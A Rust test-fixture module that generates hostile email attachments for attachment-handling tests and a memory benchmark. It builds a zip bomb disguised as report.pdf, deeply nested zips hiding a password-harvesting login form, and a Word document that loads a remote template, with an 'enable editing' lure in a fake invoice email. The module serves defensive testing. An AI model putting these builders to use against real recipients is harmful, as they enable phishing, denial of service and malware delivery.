//! Real and hostile attachment files, made by real crates (zip's
//! ZipWriter), and a MIME message that carries one: what the attachment
//! tests and the hostile-memory bench share (the bench includes this file
//! through `#[path]`).
#![allow(dead_code)]

use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;
use zip::CompressionMethod;

/// A multipart/mixed message with a short text part and `bytes` attached as
/// `name` (base64, 76-column lines), declared `content_type`.
pub fn mime_with_attachment(name: &str, content_type: &str, bytes: &[u8]) -> Vec<u8> {
    use base64::Engine;
    let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
    let mut m = Vec::with_capacity(encoded.len() + encoded.len() / 76 * 2 + 1024);
    m.extend_from_slice(
        b"From: Accounts <accounts@supplier.example>\r\n\
To: ap@kestrelfoods.example\r\n\
Subject: Invoice attached\r\n\
Message-ID: <attach-1@supplier.example>\r\n\
Date: Mon, 3 Mar 2025 09:00:00 +0000\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"=_att_boundary\"\r\n\r\n\
--=_att_boundary\r\n\
Content-Type: text/plain; charset=utf-8\r\n\r\n\
Please find the document attached.\r\n\
--=_att_boundary\r\n",
    );
    m.extend_from_slice(
        format!(
            "Content-Type: {content_type}; name=\"{name}\"\r\n\
Content-Disposition: attachment; filename=\"{name}\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n"
        )
        .as_bytes(),
    );
    for line in encoded.as_bytes().chunks(76) {
        m.extend_from_slice(line);
        m.extend_from_slice(b"\r\n");
    }
    m.extend_from_slice(b"--=_att_boundary--\r\n");
    m
}

/// Whether a member is stored rather than deflated, as zippers do for
/// data that is compressed already.
fn stored(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    [
        ".zip", ".png", ".jpg", ".jpeg", ".docx", ".docm", ".xlsx", ".gz",
    ]
    .iter()
    .any(|e| lower.ends_with(e))
}

/// A zip of `members` (name, bytes), written by ZipWriter: compressed
/// formats stored, everything else deflated.
pub fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in members {
        let method = if stored(name) {
            CompressionMethod::Stored
        } else {
            CompressionMethod::Deflated
        };
        let options = SimpleFileOptions::default().compression_method(method);
        w.start_file(*name, options).expect("zip: start a member");
        w.write_all(data).expect("zip: write a member");
    }
    w.finish().expect("zip: finish").into_inner()
}

/// A zip bomb: one member, `report.pdf`, of `inflated_bytes` zeros,
/// deflated by ZipWriter as it is streamed (1 GiB comes to about 1 MB).
pub fn zip_bomb(inflated_bytes: u64) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .large_file(inflated_bytes >= u64::from(u32::MAX));
    w.start_file("report.pdf", options)
        .expect("zip: start the bomb");
    let zeros = vec![0u8; 1 << 20];
    let mut left = inflated_bytes;
    while left > 0 {
        let n = left.min(zeros.len() as u64) as usize;
        w.write_all(zeros.get(..n).expect("n is at most the chunk"))
            .expect("zip: write zeros");
        left -= n as u64;
    }
    w.finish().expect("zip: finish the bomb").into_inner()
}

/// Zips nested `depth` deep (42.zip-style): level 1 holds `level2.zip`,
/// and so on; the innermost holds a credential page, `login.html`.
pub fn nested_zips(depth: usize) -> Vec<u8> {
    let page: &[u8] = br#"<html><body><form action="https://deep.example/p"><input type="password" name="p"></form></body></html>"#;
    let mut inner = zip_of(&[("login.html", page)]);
    for level in (1..depth).rev() {
        let name = format!("level{}.zip", level + 1);
        inner = zip_of(&[(name.as_str(), &inner)]);
    }
    inner
}

// The parts of a minimal Word document, as Word writes them.
const CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>"#;

const ROOT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;

const DOCUMENT: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Remittance advice: please enable editing to view the payment details.</w:t></w:r></w:p></w:body></w:document>"#;

const DOCUMENT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>"#;

const SETTINGS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>"#;

/// A Word document whose settings load a remote template from `url`
/// (`attachedTemplate`, `TargetMode="External"`: template injection).
pub fn docx_with_external_template(url: &str) -> Vec<u8> {
    let settings_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{}" TargetMode="External"/></Relationships>"#,
        url.replace('&', "&amp;")
    );
    zip_of(&[
        ("[Content_Types].xml", CONTENT_TYPES.as_bytes()),
        ("_rels/.rels", ROOT_RELS.as_bytes()),
        ("word/document.xml", DOCUMENT.as_bytes()),
        ("word/_rels/document.xml.rels", DOCUMENT_RELS.as_bytes()),
        ("word/settings.xml", SETTINGS.as_bytes()),
        ("word/_rels/settings.xml.rels", settings_rels.as_bytes()),
    ])
}
